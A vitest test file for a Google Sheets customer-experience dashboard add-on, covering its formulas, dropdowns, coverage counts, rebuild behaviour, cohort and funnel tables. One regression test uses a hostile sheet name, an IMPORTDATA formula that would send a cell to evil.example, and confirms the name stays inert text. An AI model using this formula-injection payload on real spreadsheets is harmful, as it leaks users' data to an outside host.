import { beforeAll, describe, expect, it } from 'vitest';
import { demoWorkbook, FORM_SHEET, VI_SHEET } from '../../src/demo';
import { npsOfRange } from '../../src/metrics/nps';
import { isoDate, localDay } from '../../src/cells/calendar';
import { cohortsOf, readCohortActivity } from '../../src/metrics/cohort';
import { activeUsersAsOf } from '../../src/metrics/active-users';
import { readActivity } from '../../src/metrics/activity';
import { funnelOfStages } from '../../src/report/journey';
import type { Emulator } from '../../src/emulator/index';
import type { WorkbookData } from '../../src/emulator/context';
import { ensureBuilt, openDemo, mapColumns } from '../../src/emulator/demo-session';

/**
 * The dashboard the wizard builds on the demo workbook, in the emulator running dist/Code.js:
 * its formulas are live and give the engine's numbers, its charts exist, and rebuilding touches
 * nothing but the add-on's own sheet.
 */

interface Built {
  sheetName: string;
  url: string;
  formulas: number;
  charts: number;
}
interface Preview {
  metric: string;
  sheet: string;
  value: number | null;
  n: number;
}

beforeAll(() => ensureBuilt());

interface Source {
  sheetName: string;
  headerRow: number;
  columns: Record<string, string>;
}

function build(workbook?: WorkbookData, lang: 'en' | 'vi' = 'en') {
  const emu = openDemo({ workbook });
  const { mapping } = mapColumns(emu, lang);
  const built = emu.call<Built>('buildDashboard', { lang });
  return { emu, built, mapping: mapping as { sources: Source[] } };
}

/** The demo without its 30,000-row activity log: the same dashboard shape, quicker to evaluate. */
function smallDemo(): WorkbookData {
  const workbook = demoWorkbook();
  workbook.sheets = workbook.sheets.filter((s) => s.name !== 'Activity');
  return workbook;
}

function column(workbook: WorkbookData, sheetName: string, index: number): unknown[][] {
  const sheet = workbook.sheets.find((s) => s.name === sheetName)!;
  return sheet.rows.slice(1).map((row) => [row[index] ?? '']);
}

const index = (letter: string) => letter.charCodeAt(0) - 65;
const ZONE = 'Asia/Ho_Chi_Minh';
const monthOf = (cell: unknown) => (cell instanceof Date ? isoDate(localDay(cell.getTime(), ZONE)).slice(0, 7) : '');

/**
 * The engine's own numbers for a period and a segment: the workbook cut down to the rows of that
 * segment, then the sidebar preview (the engine over a sheet's cells) for that period, which
 * places each row as the email does (a ticket's resolution time in the month it was resolved in).
 */
function engineFor(mapping: { sources: Source[] }, period: string, segment: string): Map<string, Preview> {
  const workbook = smallDemo();
  for (const source of mapping.sources) {
    const sheet = workbook.sheets.find((s) => s.name === source.sheetName)!;
    const seg = source.columns.segment;
    sheet.rows = sheet.rows.filter((row, i) => i < source.headerRow || segment === 'All' || !seg || row[index(seg)] === segment);
  }
  const emu = openDemo({ workbook });
  const metrics = emu.call<{ metrics: Preview[] }>('previewMetrics', { mapping, period: period === 'All' ? 'all' : period }).metrics;
  return new Map(metrics.map((m) => [`${m.sheet}|${m.metric}`, m]));
}

/** The KPI table as a person reads it: metric label → value, n, left out, change, typical. */
function kpis(emu: Emulator, sheetName: string) {
  const rows = emu.spreadsheet.values(sheetName, 'A9:I30');
  const out = new Map<string, { period: unknown; segment: unknown; value: unknown; n: unknown; leftOut: unknown; change: unknown; typical: unknown; sheet: string }>();
  for (const [label, period, segment, value, n, leftOut, change, typical, source] of rows) {
    if (label === '') break;
    // The Data column names the sheet ("C2:C of Form Responses 1"); "All surveys" names each of its sheets' columns.
    out.set(String(label), { period, segment, value, n, leftOut, change, typical, sheet: String(label).endsWith(' · All surveys') ? 'All surveys' : String(source).replace(/^.*? of /, '') });
  }
  return out;
}

const LABELS: Record<string, string> = { NPS: 'NPS', CSAT: 'CSAT %', CSAT_AVG: 'CSAT average', CES: 'Customer effort (CES)', FCR: 'First-contact resolution %', ART: 'Average resolution time (hours)', REFERRAL_RATE: 'Referral rate %', TRIAL_CONVERSION: 'Trial conversion %' };

function expectEngineNumbers(emu: Emulator, sheetName: string, mapping: { sources: Source[] }, period: string, segment: string) {
  const engine = engineFor(mapping, period, segment);
  const shown = kpis(emu, sheetName);
  let compared = 0;
  for (const [label, cells] of shown) {
    const metric = Object.keys(LABELS).find((k) => LABELS[k] === label.split(' · ')[0])!;
    const expected = engine.get(`${cells.sheet}|${metric}`);
    expect(expected, label).toBeDefined();
    expect(cells.period, label).toBe(period);
    if (expected!.value === null) {
      expect(cells.value, label).toBe('');
      continue;
    }
    expect(cells.value, `${label} for ${period} / ${segment}`).toBeCloseTo(expected!.value, 9);
    expect(cells.n, `${label} n`).toBe(expected!.n);
    compared++;
  }
  return compared;
}

describe('the dashboard on the demo workbook', () => {
  const { emu, built, mapping } = build(smallDemo());
  const name = built.sheetName;

  it('is a new sheet called CX Dashboard, remembered by developer metadata', () => {
    expect(name).toBe('CX Dashboard');
    expect(built.url).toMatch(/#gid=\d+$/);
    const marks = emu.spreadsheet.snapshot().metadata.filter((m) => m.key === 'cx.dashboard');
    expect(marks).toHaveLength(1);
    expect(marks[0].visibility).toBe('PROJECT');
  });

  it('has a period and a segment dropdown at the top: latest complete month with data, and All', () => {
    expect(emu.spreadsheet.values(name, 'A4:B5')).toEqual([['Period', '2026-10'], ['Segment', 'All']]);
    const periods = emu.spreadsheet.dropdownOptions(name, 'B4')!;
    expect(periods.slice(0, 3)).toEqual(['2026-10', '2026-09', '2026-08']);
    expect(periods).toContain('2026-Q3');
    expect(periods).toContain('2026');
    expect(periods.at(-1)).toBe('All');
    // Every sheet's own segments: the English survey's channels, the Vietnamese survey's, the tickets'.
    expect(emu.spreadsheet.dropdownOptions(name, 'B5')).toEqual(['All', 'Chat', 'Cửa hàng', 'Email', 'Mobile app', 'Phone', 'Store', 'Website', 'Zalo', 'Ứng dụng']);
    expect(emu.spreadsheet.values(name, 'C5')).toEqual([[`Values of F2:F of ${FORM_SHEET}, E2:E of ${VI_SHEET}, E2:E of Support tickets.`]]);
  });

  it('shows, for the selected period, the engine numbers with n, in cells that are live formulas', () => {
    const snapshot = emu.spreadsheet.snapshot().sheets.find((s) => s.name === name)!;
    expect(snapshot.rows[8][3]).toBe(
      // Dates through CX_IN_PERIOD (text dates read as the engine reads them); All is every row, undated ones too.
      `=IF(E9=0, "", NPS(FILTER('${FORM_SHEET}'!C2:C, ($X$2=0)+CX_IN_PERIOD('${FORM_SHEET}'!A2:A, $Y$2, $Z$2), ('${FORM_SHEET}'!F2:F=$B$5)+($B$5="All"))))`,
    );
    expect(snapshot.rows.flat().filter((v) => typeof v === 'string' && v.startsWith('=')).length).toBe(built.formulas);
    expect(snapshot.values.flat().some((v) => typeof v === 'string' && v.startsWith('#'))).toBe(false);
    expect(expectEngineNumbers(emu, name, mapping, '2026-10', 'All')).toBeGreaterThanOrEqual(8);
    // The October NPS the email reports: one number in both places.
    expect(kpis(emu, name).get(`NPS · ${FORM_SHEET}`)!.value).toBeCloseTo(44.66, 1);
  });

  it('recomputes in place when the period dropdown changes, including All', () => {
    emu.spreadsheet.choose(name, 'B4', '2026-09');
    expectEngineNumbers(emu, name, mapping, '2026-09', 'All');
    emu.spreadsheet.choose(name, 'B4', 'All');
    const all = kpis(emu, name).get(`NPS · ${FORM_SHEET}`)!;
    expect(all.value).toBeCloseTo(npsOfRange(column(smallDemo(), FORM_SHEET, 2)).value, 9);
    expect(all.change).toBe('');
    emu.spreadsheet.choose(name, 'B4', '2026-10');
  });

  it('recomputes in place when the segment dropdown changes', () => {
    emu.spreadsheet.choose(name, 'B5', 'Store');
    expect(expectEngineNumbers(emu, name, mapping, '2026-10', 'Store')).toBeGreaterThanOrEqual(4);
    emu.spreadsheet.choose(name, 'B4', '2026-08');
    expectEngineNumbers(emu, name, mapping, '2026-08', 'Store');
    // A segment only the Vietnamese survey and the tickets have: their figures, the English survey's blank.
    emu.spreadsheet.choose(name, 'B4', '2026-10');
    emu.spreadsheet.choose(name, 'B5', 'Zalo');
    expect(expectEngineNumbers(emu, name, mapping, '2026-10', 'Zalo')).toBeGreaterThanOrEqual(4);
    expect(kpis(emu, name).get(`NPS · ${FORM_SHEET}`)).toMatchObject({ value: '', n: 0 });
    emu.spreadsheet.choose(name, 'B5', 'All');
  }, 120_000);

  it('compares with the period before and the typical period (median of the 12 before)', () => {
    const nps = kpis(emu, name).get(`NPS · ${FORM_SHEET}`)!;
    const months = ['2025-09', '2025-10', '2025-11', '2025-12', '2026-01', '2026-02', '2026-03', '2026-04', '2026-05', '2026-06', '2026-07', '2026-08', '2026-09'].slice(1);
    const before = months.map((m) => engineFor(mapping, m, 'All').get(`${FORM_SHEET}|NPS`)!.value!);
    const sorted = [...before].sort((a, b) => a - b);
    expect(nps.change).toBeCloseTo((nps.value as number) - before[11], 9);
    expect(nps.typical).toBeCloseTo((sorted[5] + sorted[6]) / 2, 9);
  });

  it('refuses an option the dropdown does not offer', () => {
    expect(() => emu.spreadsheet.choose(name, 'B4', '2031-01')).toThrow(/does not offer/);
  });

  it('spills the NPS breakdown and a segment table with header rows, and draws the charts', () => {
    const text = emu.spreadsheet.snapshot().sheets.find((s) => s.name === name)!.displayValues.map((row) => row.join('|')).join('\n');
    expect(text).toContain('Group|Count|Share %');
    expect(text).toContain('Segment|n|NPS');
    expect(text).toMatch(/Metric\|Oct 2025\|Nov 2025/);
    const charts = emu.spreadsheet.charts(name);
    expect(charts).toHaveLength(built.charts);
    expect(charts.find((c) => c.type === 'BAR')!.options.isStacked).toBe(true);
    expect(charts.filter((c) => c.type === 'LINE').map((c) => c.options.title)).toEqual(['NPS by month', 'CSAT % by month']);
    expect(charts.some((c) => c.type === 'COLUMN')).toBe(true);
  });
});

describe('the coverage column', () => {
  it('counts the non-blank cells of the period the metric could not use', () => {
    const workbook = smallDemo();
    const sheet = workbook.sheets.find((s) => s.name === FORM_SHEET)!;
    // Three October NPS answers typed as words: text in a score column is skipped.
    let changed = 0;
    for (const row of sheet.rows.slice(1)) if (changed < 3 && monthOf(row[0]) === '2026-10') (row[2] = 'không rõ'), changed++;
    const { emu, built } = build(workbook);
    const nps = kpis(emu, built.sheetName).get(`NPS · ${FORM_SHEET}`)!;
    expect(nps.leftOut).toBe(3);
    // n and left out come from the row's CX_COVERAGE, the email's own count.
    const rows = emu.spreadsheet.snapshot().sheets.find((s) => s.name === built.sheetName)!.rows;
    expect(rows[8][4]).toBe('=S9');
    expect(rows[8][5]).toBe('=T9');
    expect(rows[8][18]).toMatch(/^=CX_COVERAGE\("NPS", 'Form Responses 1'!C2:C, CX_DATES\('Form Responses 1'!A2:A\), IF\(\$B\$4="All", "all", \$B\$4\), 'Form Responses 1'!F2:F, IF\(\$B\$5="All", "", \$B\$5\)\)$/);
  });

  /**
   * October's NPS column with an answer out of the scale, a word that is no answer, and a
   * non-answer: the email leaves them out and says where; the dashboard's coverage column must
   * say the same, for the period and segment chosen.
   */
  function withBadCells() {
    const workbook = smallDemo();
    const sheet = workbook.sheets.find((s) => s.name === FORM_SHEET)!;
    const places: string[] = [];
    let k = 0;
    sheet.rows.forEach((row, i) => {
      if (i === 0 || k >= 3 || monthOf(row[0]) !== '2026-10' || row[5] !== 'Store') return;
      row[2] = ['11', 'Tốt lắm', 'N/A'][k++];
      places.push(`'${FORM_SHEET}'!C${i + 1}`);
    });
    return { workbook, places };
  }

  it('says what was left out, why and where, exactly as the email does, for the period and segment chosen', () => {
    const { workbook, places } = withBadCells();
    const { emu, built } = build(workbook);
    const name = built.sheetName;
    expect(emu.spreadsheet.values(name, 'A9')).toEqual([[`NPS · ${FORM_SHEET}`]]);
    emu.call('sendTestReport', { lang: 'en' });
    const email = emu.outbox.messages.at(-1)!;
    expect(email.body).toContain('October 2026');
    const [[n, leftOut]] = emu.spreadsheet.values(name, 'E9:F9');
    const why = String(emu.spreadsheet.values(name, 'J9')[0][0]);
    expect(why.startsWith(`n = ${n} · 3 left out: `), why).toBe(true);
    expect(why).toContain(`answer with no score (first: ${places[1]})`);
    // The email's NPS line says the same words.
    expect(email.body).toContain(why);
    expect(leftOut).toBe(3);
    expect(why).toContain(`outside the scale (first: ${places[0]})`);
    expect(why).toContain(`no answer (N/A) (first: ${places[2]})`);
    // The value itself stays the function's error naming the problem, not a number that hides it.
    expect(emu.spreadsheet.formulaError(name, 'D9')).toContain('11');
    // A segment without the bad cells has nothing left out; the one with them says so.
    emu.spreadsheet.choose(name, 'B5', 'Phone');
    expect(emu.spreadsheet.values(name, 'F9')).toEqual([[0]]);
    expect(emu.spreadsheet.values(name, 'J9')[0][0]).toMatch(/^n = \d+ · nothing left out$/);
    emu.spreadsheet.choose(name, 'B5', 'Store');
    expect(emu.spreadsheet.values(name, 'F9')).toEqual([[3]]);
    emu.spreadsheet.choose(name, 'B4', '2026-09');
    expect(emu.spreadsheet.values(name, 'F9')).toEqual([[0]]);
  });

  it('the Vietnamese dashboard words it as the Vietnamese email does', () => {
    const { workbook, places } = withBadCells();
    // Tables and texts of functions follow the spreadsheet's locale (metrics-spec.md section 1).
    workbook.locale = 'vi_VN';
    const { emu, built } = build(workbook, 'vi');
    emu.call('sendTestReport', { lang: 'vi' });
    const why = String(emu.spreadsheet.values(built.sheetName, 'J9')[0][0]);
    expect(why).toContain(`ngoài thang điểm (đầu tiên: ${places[0]})`);
    expect(emu.outbox.messages.at(-1)!.body).toContain(why);
  });
});

describe('with only some metrics mapped', () => {
  it('builds the KPIs it can, with no error cells', () => {
    const workbook = smallDemo();
    workbook.sheets = workbook.sheets.filter((s) => s.name === FORM_SHEET).map((s) => ({ ...s, rows: s.rows.map((row) => [row[0], row[2]]) }));
    const { emu, built } = build(workbook);
    const shown = kpis(emu, built.sheetName);
    expect([...shown.keys()]).toEqual(['NPS']);
    expect(shown.get('NPS')!.segment).toBe('All');
    const values = emu.spreadsheet.snapshot().sheets.find((s) => s.name === built.sheetName)!.values.flat();
    expect(values.some((v) => typeof v === 'string' && v.startsWith('#'))).toBe(false);
  });
});

describe('rebuilding', () => {
  it('leaves one dashboard and every other sheet exactly as it was', () => {
    const { emu } = build(smallDemo());
    const others = () => emu.spreadsheet.snapshot().sheets.filter((s) => !s.name.startsWith('CX Dashboard'));
    const before = JSON.stringify(others());
    const first = emu.call<Built>('buildDashboard', { lang: 'en' });
    const second = emu.call<Built>('buildDashboard', { lang: 'en' });
    expect(second.sheetName).toBe(first.sheetName);
    expect(second.url).toBe(first.url);
    const snapshot = emu.spreadsheet.snapshot();
    expect(snapshot.sheets.filter((s) => s.name.startsWith('CX Dashboard'))).toHaveLength(1);
    expect(snapshot.metadata.filter((m) => m.key === 'cx.dashboard')).toHaveLength(1);
    expect(emu.spreadsheet.charts(second.sheetName)).toHaveLength(second.charts);
    expect(JSON.stringify(others())).toBe(before);
  });

  it('keeps the period and segment the person chose', () => {
    const { emu, built } = build(smallDemo());
    emu.spreadsheet.choose(built.sheetName, 'B4', '2026-Q3');
    emu.spreadsheet.choose(built.sheetName, 'B5', 'Phone');
    const again = emu.call<Built & { period: string; segment: string }>('buildDashboard', { lang: 'en' });
    expect([again.period, again.segment]).toEqual(['2026-Q3', 'Phone']);
    expect(emu.spreadsheet.values(built.sheetName, 'B4:B5')).toEqual([['2026-Q3'], ['Phone']]);
    expect(emu.spreadsheet.dropdownOptions(built.sheetName, 'B5')).toContain('Phone');
  });

  it('renames its own sheet when the language changes', () => {
    const { emu } = build(smallDemo());
    const vi = emu.call<Built>('buildDashboard', { lang: 'vi' });
    expect(vi.sheetName).toBe('Bảng điều khiển CX');
    const snapshotAfter = emu.spreadsheet.snapshot();
    const names = snapshotAfter.sheets.map((s) => s.name);
    expect(names).toContain('Bảng điều khiển CX');
    expect(names).not.toContain('CX Dashboard');
    const dashboard = snapshotAfter.sheets.find((s) => s.name === vi.sheetName)!;
    expect(dashboard.displayValues.flat()).toContain('Chỉ số chính');
  });
});

describe("a user's own sheet called CX Dashboard", () => {
  it('is never touched: the add-on takes the next free name', () => {
    const workbook = smallDemo();
    const theirs = { name: 'CX Dashboard', rows: [['My notes', 'Q3'], ['call Lan', 42]] };
    workbook.sheets.push(theirs);
    const { emu, built } = build(workbook);
    expect(built.sheetName).toBe('CX Dashboard (2)');
    emu.call('buildDashboard', { lang: 'en' });
    const snapshot = emu.spreadsheet.snapshot();
    const mine = snapshot.sheets.find((s) => s.name === 'CX Dashboard')!;
    expect(mine.rows).toEqual(theirs.rows);
    expect(mine.charts).toEqual([]);
    expect(snapshot.sheets.filter((s) => s.name.startsWith('CX Dashboard'))).toHaveLength(2);
  });
});

describe('a sheet whose name reads like a formula', () => {
  // Issue 15: the KPI "Data" label was built from the sheet name and written with setValues,
  // so this name became a live formula sending a cell to an outside host.
  const HOSTILE = `=IMPORTDATA("https://evil.example/?d="&Notes!A1)&"!x`;
  const workbook = smallDemo();
  workbook.sheets.find((s) => s.name === FORM_SHEET)!.name = HOSTILE;
  workbook.sheets.push({ name: 'Notes', rows: [['secret']] });
  const { emu, built } = build(workbook);
  const dashboard = emu.spreadsheet.snapshot().sheets.find((s) => s.name === built.sheetName)!;

  it('stays inert text in every label, and whole (its "!" does not cut it)', () => {
    const formulas = dashboard.rows.flat().filter((v): v is string => typeof v === 'string' && v.startsWith('='));
    // Every formula is one the add-on composed: the name appears only inside a quoted reference.
    for (const formula of formulas) expect(formula.replaceAll(`'${HOSTILE.replace(/'/g, "''")}'!`, '')).not.toContain('IMPORTDATA');
    const labels = dashboard.displayValues.flat().filter((v) => v.includes('IMPORTDATA'));
    expect(labels).toContain(`C2:C of ${HOSTILE}`);
    for (const label of labels) expect(label).not.toMatch(/^\s*[=+\-@]/);
  });

  it('still computes the metrics of that sheet through quoted references', () => {
    emu.spreadsheet.choose(built.sheetName, 'B4', 'All');
    const nps = kpis(emu, built.sheetName).get(`NPS · ${HOSTILE}`)!;
    expect(nps.value).toBeCloseTo(npsOfRange(column(workbook, HOSTILE, 2)).value, 9);
  });
});

describe('the cohort table', () => {
  it('shows CX_COHORT of the activity log under a header row, coloured by a scale from white to green', () => {
    const workbook = smallDemo();
    const log = demoWorkbook().sheets.find((s) => s.name === 'Activity')!;
    workbook.sheets.push({ ...log, rows: log.rows.slice(0, 3000) });
    const { emu, built } = build(workbook);
    const sheet = emu.spreadsheet.snapshot().sheets.find((s) => s.name === built.sheetName)!;
    const head = sheet.displayValues.findIndex((row) => row.includes('Cohort') && row.includes('Month 0'));
    expect(head).toBeGreaterThan(0);
    const col = sheet.displayValues[head].indexOf('Cohort');
    const rows = log.rows.slice(1, 3000);
    const expected = cohortsOf(readCohortActivity('CX_COHORT', rows.map((r) => [r[0]]), rows.map((r) => [r[1]]), ZONE), 'month', 12);
    expect(sheet.values[head + 1][col + 1]).toBe(expected[0].size);
    expect(sheet.values[head + 1][col + 3]).toBeCloseTo(expected[0].retention[1]!, 9);
    const rules = emu.spreadsheet.app.getActive().getSheetByName(built.sheetName)!.getConditionalFormatRules();
    expect(rules).toHaveLength(1);
    expect(rules[0].getRanges().map(String)[0]).toContain(`${String.fromCharCode(65 + col + 2)}${head + 2}:`);
    // The preview draws the scale: the best retention cell is green.
    expect(emu.spreadsheet.renderHtml(built.sheetName)).toContain('background:rgb(30,142,62)');
  });
});

describe('active users and the segment selector', () => {
  const CHANNELS = ['Store', 'Phone', 'Website', 'Mobile app'];
  const channelOf = (user: unknown) => CHANNELS[[...String(user)].reduce((h, ch) => (h * 31 + ch.charCodeAt(0)) % 9973, 7) % CHANNELS.length];
  /** The last weeks of the demo's activity log (oldest first), with each user's channel in column D when asked. */
  function withActivity(channels: boolean): WorkbookData {
    const workbook = smallDemo();
    const log = demoWorkbook().sheets.find((s) => s.name === 'Activity')!;
    const rows = log.rows.slice(-5000).map((row) => (channels ? [...row, channelOf(row[0])] : row));
    workbook.sheets.push({ ...log, rows: [channels ? [...log.rows[0], 'Channel'] : log.rows[0], ...rows] });
    return workbook;
  }
  const OCTOBER_31 = localDay(new Date('2026-10-31T12:00:00+07:00').getTime(), ZONE);
  /** The engine's DAU, MAU and stickiness as of 31 October over the log's rows of `segment` (every row for All). */
  function engineActive(workbook: WorkbookData, segment: string) {
    const rows = workbook.sheets.find((s) => s.name === 'Activity')!.rows.slice(1).filter((row) => segment === 'All' || row[3] === segment);
    return activeUsersAsOf(readActivity('MAU', rows.map((r) => [r[0]]), rows.map((r) => [r[1]]), ZONE), OCTOBER_31);
  }

  it('follows the segment dropdown when the activity log has a segment column', () => {
    const workbook = withActivity(true);
    const emu = openDemo({ workbook });
    const { mapping } = mapColumns(emu) as { mapping: { sources: Source[] } };
    const activity = mapping.sources.find((s) => s.sheetName === 'Activity')!;
    activity.columns.segment = 'D';
    emu.call('saveMapping', { lang: 'en', mapping });
    const built = emu.call<Built>('buildDashboard', { lang: 'en' });
    expect(emu.spreadsheet.values(built.sheetName, 'B4')).toEqual([['2026-10']]);
    const shown = (label: string) => kpis(emu, built.sheetName).get(label)!;
    for (const segment of ['All', 'Store', 'Phone']) {
      emu.spreadsheet.choose(built.sheetName, 'B5', segment);
      const expected = engineActive(workbook, segment);
      expect(shown('Monthly active users').segment, segment).toBe(segment);
      expect(shown('Monthly active users').value, `MAU ${segment}`).toBe(expected.mau);
      expect(shown('Daily active users').value, `DAU ${segment}`).toBe(expected.dau);
      expect(shown('Stickiness (DAU/MAU) %').value as number, `stickiness ${segment}`).toBeCloseTo(expected.stickiness, 9);
    }
    // The segments really differ, so the dropdown is what changed the figure.
    expect(engineActive(workbook, 'Store').mau).toBeLessThan(engineActive(workbook, 'All').mau);
  });

  it('says plainly that they are for all segments when the log has no segment column', () => {
    const workbook = withActivity(false);
    const { emu, built } = build(workbook);
    emu.spreadsheet.choose(built.sheetName, 'B5', 'Store');
    const mau = kpis(emu, built.sheetName).get('Monthly active users')!;
    expect(mau.segment).toBe('All (no segment column)');
    expect(mau.value).toBe(engineActive(workbook, 'All').mau);
    // The survey's own figures follow the dropdown.
    expect(kpis(emu, built.sheetName).get(`NPS · ${FORM_SHEET}`)!.segment).toBe('Store');
    emu.spreadsheet.choose(built.sheetName, 'B5', 'All');
    expect(kpis(emu, built.sheetName).get('Monthly active users')!.segment).toBe('All');
  });
});

describe('the journey funnel', () => {
  const { emu, built, mapping } = build(smallDemo());
  const name = built.sheetName;
  const survey = mapping.sources.find((s) => s.sheetName === FORM_SHEET)!;
  /** The funnel table under its header, as the sheet shows it. */
  function shownFunnel() {
    const sheet = emu.spreadsheet.snapshot().sheets.find((s) => s.name === name)!;
    const head = sheet.displayValues.findIndex((row) => row[0] === 'Customer journey: who reached each stage');
    expect(head).toBeGreaterThan(0);
    return sheet.values.slice(head + 1, head + 8).map((row) => row.slice(0, 4));
  }
  /** The email's count (funnelOfStages) over the survey's rows of that month and segment. */
  function engineFunnel(month: string, segment: string) {
    const rows = smallDemo().sheets.find((s) => s.name === FORM_SHEET)!.rows.slice(1);
    const stage = index(survey.columns.journeyStage);
    const seg = index(survey.columns.segment);
    return funnelOfStages(rows.filter((row) => monthOf(row[0]) === month && (segment === 'All' || row[seg] === segment)).map((row) => row[stage]))!;
  }

  it('counts the selected period and segment as the email’s funnel does, live', () => {
    expect(survey.columns.journeyStage).toBeDefined();
    for (const [period, segment] of [['2026-10', 'All'], ['2026-09', 'Store']]) {
      emu.spreadsheet.choose(name, 'B4', period);
      emu.spreadsheet.choose(name, 'B5', segment);
      const table = shownFunnel();
      const expected = engineFunnel(period, segment);
      expect(table[0]).toEqual(['Stage', 'At this stage', 'Reached', '% of the stage before']);
      expect(table.slice(1, 6).map((row) => row.slice(0, 3)), `${period} / ${segment}`).toEqual(
        expected.stages.map((s) => [s.stage[0].toUpperCase() + s.stage.slice(1), s.atStage, s.reached]),
      );
      expect(table[3][3]).toBeCloseTo(expected.stages[2].shareFromPrevious!, 9);
      expect(table[6][0]).toBe(expected.unmatched > 0 ? 'Not a stage (left out)' : '');
    }
    emu.spreadsheet.choose(name, 'B4', '2026-10');
    emu.spreadsheet.choose(name, 'B5', 'All');
    // Every dropdown change recomputes the whole sheet, coverage counts included: a bound, not a speed claim.
  }, 120_000);

  it('is a native bar chart of the customers who reached each stage, drawn in the preview', () => {
    const chart = emu.spreadsheet.charts(name).find((c) => c.options.title === 'Customer journey: who reached each stage')!;
    expect(chart.type).toBe('BAR');
    expect(chart.options.isStacked).toBeFalsy();
    expect(chart.ranges).toHaveLength(2);
    const html = emu.spreadsheet.renderHtml(name);
    const svg = html.slice(html.indexOf('aria-label="Customer journey'), html.indexOf('</svg>', html.indexOf('aria-label="Customer journey')));
    const reached = engineFunnel('2026-10', 'All').stages.map((s) => s.reached);
    for (const [i, stage] of ['Awareness', 'Consideration', 'Purchase', 'Retention', 'Advocacy'].entries()) expect(svg).toContain(`<title>${stage}: ${reached[i]}</title>`);
  });
});

describe('"All surveys" figures on the dashboard', () => {
  const workbook = demoWorkbook();
  workbook.sheets = workbook.sheets.filter((s) => s.name === FORM_SHEET || s.name === VI_SHEET);
  const { emu, built, mapping } = build(workbook);
  const name = built.sheetName;
  /** NPS over both sheets' rows of the month (every row for All) and segment, by the engine. */
  function engineBoth(month: string, segment: string) {
    const cells = mapping.sources.flatMap((source) => {
      const rows = workbook.sheets.find((s) => s.name === source.sheetName)!.rows.slice(1);
      const seg = index(source.columns.segment);
      return rows
        .filter((row) => (month === 'All' || monthOf(row[index(source.columns.timestamp)]) === month) && (segment === 'All' || row[seg] === segment))
        .map((row) => [row[index(source.columns.nps)] ?? '']);
    });
    return npsOfRange(cells);
  }

  it('follow the period and segment dropdowns like each sheet’s own, with n, change and coverage', () => {
    for (const [period, segment] of [['2026-10', 'All'], ['2026-09', 'Store'], ['All', 'All']]) {
      emu.spreadsheet.choose(name, 'B4', period);
      emu.spreadsheet.choose(name, 'B5', segment);
      const shown = kpis(emu, name);
      const all = shown.get('NPS · All surveys')!;
      const expected = engineBoth(period, segment);
      expect(all.period).toBe(period);
      expect(all.segment).toBe(segment);
      expect(all.value as number, `${period} / ${segment}`).toBeCloseTo(expected.value, 9);
      expect(all.n).toBe(expected.n);
      expect(all.n).toBe((shown.get(`NPS · ${FORM_SHEET}`)!.n as number) + (shown.get(`NPS · ${VI_SHEET}`)!.n as number));
    }
    emu.spreadsheet.choose(name, 'B4', '2026-10');
    emu.spreadsheet.choose(name, 'B5', 'All');
    const all = kpis(emu, name).get('NPS · All surveys')!;
    expect(typeof all.change).toBe('number');
    const row = emu.spreadsheet.snapshot().sheets.find((s) => s.name === name)!.values.findIndex((r) => r[0] === 'NPS · All surveys');
    expect(emu.spreadsheet.values(name, `J${row + 1}`)[0][0]).toMatch(new RegExp(`^n = \\d+ · nothing left out \\(NPS · ${FORM_SHEET}\\) · n = \\d+ · nothing left out \\(NPS · ${VI_SHEET}\\)$`));
    // Every dropdown change recomputes the whole sheet, coverage counts included: a bound, not a speed claim.
  }, 120_000);

  it('are a line of their own in the NPS and CSAT trend charts, named in the legend the preview draws', () => {
    const charts = emu.spreadsheet.charts(name).filter((c) => c.type === 'LINE');
    expect(charts.map((c) => c.options.title)).toEqual(['NPS by month', 'CSAT % by month']);
    for (const chart of charts) {
      expect(chart.ranges).toHaveLength(4);
      expect((chart.options.legend as { position: string }).position).toBe('bottom');
    }
    const html = emu.spreadsheet.renderHtml(name);
    const svg = html.slice(html.indexOf('aria-label="NPS by month"'), html.indexOf('</svg>', html.indexOf('aria-label="NPS by month"')));
    expect(svg.match(/<polyline /g)).toHaveLength(3);
    for (const label of [`NPS · ${FORM_SHEET}`, `NPS · ${VI_SHEET}`, 'NPS · All surveys']) expect(svg).toContain(`>${label}</text>`);
  });
});
